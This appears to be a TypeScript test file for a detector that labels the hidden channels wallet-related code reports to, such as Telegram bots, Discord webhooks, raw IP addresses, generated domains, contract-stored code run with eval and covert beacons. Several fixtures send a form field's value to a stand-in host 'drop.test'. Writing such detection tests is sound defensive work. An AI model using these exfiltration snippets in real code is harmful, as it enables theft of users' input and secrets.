import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { unfold } from './obfuscation.ts'
import { channelsIn } from './walletCalls.ts'

const kinds = (code: string) => channelsIn(unfold('inline', code)).map(({ kind }) => kind)

describe('where code reports to', () => {
  const cases: [code: string, ...kinds: string[]][] = [
    [`fetch("https://api.telegram.org/bot123:abc/sendMessage")`, 'telegram-bot'],
    [`u = atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzphYmMv")`, 'telegram-bot'],
    [`post('https://discord.com/api/webhooks/1/x', data)`, 'discord-webhook'],
    [`post('http://203.0.113.9:8080/log')`, 'ip-endpoint'],
    [`s.src = 'https://0a1b2c3d4e5f60718293a4b5c6d7e8f9.xyz/a.js'`, 'hashed-endpoint'],
    [`const host = sha256(day).slice(0, 16); fetch('https://' + host + '.top/c')`, 'hashed-endpoint'],
    [
      `const hex = await rpc('eth_call', [{ to: c, data: '0x6d4ce63c' }]); eval(decodeURIComponent(hex))`,
      'smart-contract-config',
    ],
    [`new Image().src = 'https://drop.test/g.gif?p=' + btoa(field.value)`, 'covert-request'],
    [`navigator.sendBeacon('https://drop.test/b', JSON.stringify({ p: field.value }))`, 'covert-request'],
    // Honest.
    [`new Image().src = 'https://count.test/hit.gif?t=' + Date.now(); send({ p: field.value })`],
    [`navigator.sendBeacon('/visits', JSON.stringify({ seconds })); keep(field.value)`],
    [`fetch('http://127.0.0.1:8545'); fetch('http://192.168.0.1/')`],
    [`link = 'https://t.me/ourchannel'; share('https://discord.gg/abc')`],
    [`const version = 'http://a.test/1.2.3.4'`],
    [`const balance = await rpc('eth_call', [{ to: token, data }]); show(BigInt(balance))`],
    [`integrity: 'https://a.test/0a1b2c3d4e5f60718293a4b5c6d7e8f9.js'`],
  ]
  for (const [code, ...expected] of cases) {
    it(`${code.slice(0, 80)}: ${expected.join(', ') || 'nothing'}`, () => assert.deepEqual(kinds(code), expected))
  }
})
